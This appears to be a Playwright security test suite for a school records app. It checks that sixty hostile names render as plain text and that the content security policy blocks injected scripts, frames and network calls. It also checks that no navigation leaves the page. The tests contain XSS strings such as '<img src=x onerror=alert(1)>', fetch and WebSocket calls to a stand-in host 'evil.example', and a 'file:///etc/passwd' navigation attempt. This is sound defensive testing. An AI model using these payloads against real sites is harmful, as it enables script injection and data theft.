import { expect, type Page } from '@playwright/test'
import { personId } from '../../shared/domain/ids.ts'
import { tally, times } from '../security/support/tally.ts'
import { words } from '../support/words.ts'
import { ask } from './support/ask.ts'
import { goHome } from './support/home.ts'
import { hostileNames } from './support/hostile-names.ts'
import { activeLine, card, typeName } from './support/places.ts'
import { connectAndRead, test } from './support/served-school.ts'

/** What a page that was made to do something would look like. */
function damageTo(page: Page) {
  return page.evaluate(() => {
    const { document, __ran } = globalThis as unknown as {
      document: {
        baseURI: string
        querySelectorAll(selector: string): ArrayLike<{ outerHTML: string }>
      }
      __ran?: unknown
    }
    const made =
      'script:not([src^="/"]):not([src^="./"]):not([src^="app:"]), iframe, object, embed, video, base, form[action], style:not([data-vite-dev-id]), marquee, [onerror], [onload], [onmouseover], a[href^="javascript"], meta[http-equiv=refresh], img:not([src^="data:"]):not([src^="app:"])'
    return {
      ran: __ran !== undefined,
      made: Array.from(document.querySelectorAll(made), ({ outerHTML }) => outerHTML.slice(0, 80)),
      base: new URL(document.baseURI).host,
    }
  })
}

/** Whether the first sign of what was found is left of the last: a name can turn what is behind it round. */
function isLeftToRight(mark: Element): boolean {
  const [text] = mark.childNodes
  const leftOf = (at: number) => {
    const sign = document.createRange()
    if (text !== undefined) sign.setStart(text, at)
    if (text !== undefined) sign.setEnd(text, at + 1)
    return sign.getBoundingClientRect().left
  }
  return leftOf(0) < leftOf((text?.textContent?.length ?? 0) - 1)
}

test('sixty hostile names are shown as plain text in every view', async ({ launch, served }) => {
  expect(hostileNames).toHaveLength(60)
  const { world } = served.school
  // Boarders first: their names stand in a house as well.
  const students = [...world.listed('student')]
    .filter(({ stage }) => stage === 'current')
    .toSorted((one, other) => other.boarding.length - one.boarding.length)
  const victims = hostileNames.map((name, n) => {
    const person = students[n]
    if (person === undefined) throw new Error('too few students')
    served.school.edit(person.communityId, {
      surname: name,
      givenName: name,
      prefName: name,
      otherGivenName: name,
    })
    return person
  })
  const app = await launch({ ca: served.caFile })
  const { page } = app
  await connectAndRead(page, served)
  const clean = await damageTo(page)
  const damaged: string[] = []
  let looks = 0
  const look = async (view: string, name: string) => {
    looks += 1
    const damage = await damageTo(page)
    if (damage.ran || damage.base !== clean.base || damage.made.length > clean.made.length)
      damaged.push(`${view} ${name.slice(0, 40)}: ${damage.made.join(' ')}`)
  }
  for (const [n, { schoolId, communityId }] of victims.slice(0, times(60, 15)).entries()) {
    const name = hostileNames[n] ?? ''
    await goHome(page)
    await typeName(page, schoolId)
    const { hits } = await ask(page, 'people.search', { text: schoolId })
    const line = hits.findIndex(({ id }) => id === communityId)
    expect(line, name.slice(0, 40)).toBeGreaterThanOrEqual(0)
    for (let down = 0; down < line; down += 1) await page.keyboard.press('ArrowDown')
    await look('list', name)
    expect(await activeLine(page).locator('mark').last().evaluate(isLeftToRight), name.slice(0, 40)).toBe(
      true,
    )
    await page.keyboard.press('Enter')
    await card(page).waitFor()
    if (name.startsWith('<')) await expect(card(page)).toContainText(name.slice(0, 12))
    await look('card', name)
    await page.keyboard.press('Control+P')
    await page.getByRole('article').waitFor()
    await look('paper', name)
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await page.keyboard.press('Control+E')
    await look('form', name)
    await page.keyboard.press('Escape')
  }
  // A correction of each of the first, so that the names stand among the corrections too; none of them is sent.
  await ask(page, 'settings.change', { sending: 'when-asked', operator: '<b onload=x>' })
  for (const [n, { communityId }] of victims.slice(0, 10).entries())
    await ask(page, 'corrections.save', {
      variant: 'person',
      personId: personId.parse(communityId.toLowerCase()),
      author: '<img src=x onerror=alert(1)>',
      changes: [
        {
          field: 'surname',
          base: hostileNames[n] ?? '',
          mine: hostileNames.at(-1 - n)?.slice(0, 2_000) ?? '',
        },
      ],
    })
  for (const key of ['Control+2', 'Control+3', 'Control+4', 'Control+,']) {
    await page.keyboard.press(key)
    await page.waitForTimeout(300)
    await look('place', key)
  }
  await app.kill() // it would ask a person first: the corrections go with a connection of this session only
  tally('hostile names × views', looks, damaged.length)
  expect(damaged).toEqual([])
})

/** Each tries to run or fetch something, and answers 'through' where it could. */
const injections: Readonly<Record<string, string>> = {
  eval: "try { return (0, eval)('\"through\"') } catch { return 'blocked' }",
  Function: "try { return new Function('return \"through\"')() } catch { return 'blocked' }",
  'string timer':
    "globalThis.__t = 'blocked'; try { setTimeout('globalThis.__t = \"through\"', 0) } catch {} await rest(); return globalThis.__t",
  'inline script':
    "globalThis.__s = 'blocked'; add('script', { textContent: 'globalThis.__s = \"through\"' }); await rest(); return globalThis.__s",
  'remote script': "return await loaded(add('script', { src: 'https://evil.example/x.js' }))",
  'data: script': "return await loaded(add('script', { src: 'data:text/javascript,1' }))",
  'inline handler':
    "globalThis.__h = 'blocked'; add('div', { innerHTML: '<img src=x onerror=\"globalThis.__h = 1 && String.fromCharCode(116)+\\'hrough\\'\">' }); await rest(); return globalThis.__h",
  'text as markup': "add('div', {}).innerHTML = '<b>'; return 'through'",
  'inline style':
    "const e = add('div', {}); e.setAttribute('style', 'width: 77px'); return getComputedStyle(e).width === '77px' ? 'through' : 'blocked'",
  'remote image': "return await loaded(add('img', { src: 'https://evil.example/x.png' }))",
  'remote style':
    "return await loaded(add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }))",
  fetch: "return await fetch('https://evil.example').then(() => 'through', () => 'blocked')",
  XMLHttpRequest:
    "return await new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok('through'); x.onerror = () => ok('blocked'); try { x.open('GET', 'https://evil.example'); x.send() } catch { ok('blocked') } })",
  WebSocket:
    "return await new Promise((ok) => { try { const s = new WebSocket('wss://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
  EventSource:
    "return await new Promise((ok) => { try { const s = new EventSource('https://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
  frame:
    "const f = add('iframe', { src: 'https://evil.example' }); await rest(); try { return f.contentDocument === null ? 'blocked' : f.contentDocument.body.textContent === '' ? 'blocked' : 'through' } catch { return 'blocked' }",
  worker:
    "try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((ok) => { w.onmessage = () => ok('through'); w.onerror = () => ok('blocked') }) } catch { return 'blocked' }",
}

const workshop = `
  const rest = () => new Promise((ok) => setTimeout(ok, 120))
  const add = (name, fields) => { const e = Object.assign(document.createElement(name), fields); document.body.append(e); return e }
  const loaded = (e) => new Promise((ok) => { e.onload = () => ok('through'); e.onerror = () => ok('blocked'); setTimeout(() => ok('blocked'), 1500) })`

test('injected code, styles, pictures and connections are blocked by the policy', async ({
  demo: { page },
}) => {
  const through: string[] = []
  // Playwright's own evaluation is not subject to the page's policy; what it does in the page is.
  for (const [what, run] of Object.entries(injections)) {
    const outcome = await page
      .evaluate(`(async () => { ${workshop}; await rest(); ${run} })()`)
      .catch((error: Error) => (error.message.includes('Trusted') ? 'blocked' : error.message))
    if (outcome !== 'blocked') through.push(what)
  }
  tally('injections past the content security policy', Object.keys(injections).length, through.length)
  expect(through).toEqual([])
})

const outside = 'https://evil.example/'
const ways: readonly string[] = [
  ...[
    outside,
    ...words(
      'about:blank data:text/html,x javascript:1 file:///etc/passwd /index.html app://foyer/index.html',
    ),
  ].map((url) => `window.open(${JSON.stringify(url)})`),
  `window.open('${outside}', '_blank', 'popup,noopener')`,
  ...[
    outside,
    ...words('file:///etc/passwd data:text/html,x about:blank app://evil/index.html /assets/'),
  ].map((url) => `location.href = ${JSON.stringify(url)}`),
  `location.replace('${outside}')`,
  `location.assign('${outside}')`,
  ...['_self', '_blank', '_top'].map(
    (target) =>
      `Object.assign(document.body.appendChild(document.createElement('a')), { href: '${outside}', target: '${target}' }).click()`,
  ),
  `const f = Object.assign(document.createElement('form'), { action: '${outside}', method: 'post' }); document.body.append(f); f.submit()`,
  `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${outside}'; document.head.append(m)`,
]

test('no navigation leaves the page, and no window opens', async ({ demo: { page, shell } }) => {
  const home = page.url()
  const pages = () => page.context().pages().length
  const windows = pages()
  // The stand-in's browser goes to about:blank without asking anybody; Electron asks.
  const tried = ways.filter((way) => shell === 'electron' || !way.includes('location.href = "about:blank"'))
  const through: string[] = []
  for (const way of tried) {
    await page.evaluate(`(() => { try { ${way} } catch {} })()`).catch(() => undefined)
    await page.waitForTimeout(100)
    // The stand-in can only close a window after it was opened.
    await expect.poll(pages).toBe(windows)
    if (page.url() !== home) through.push(`${way}: ${page.url()}`)
  }
  tally('navigations and windows', tried.length, through.length)
  expect(through).toEqual([])
})
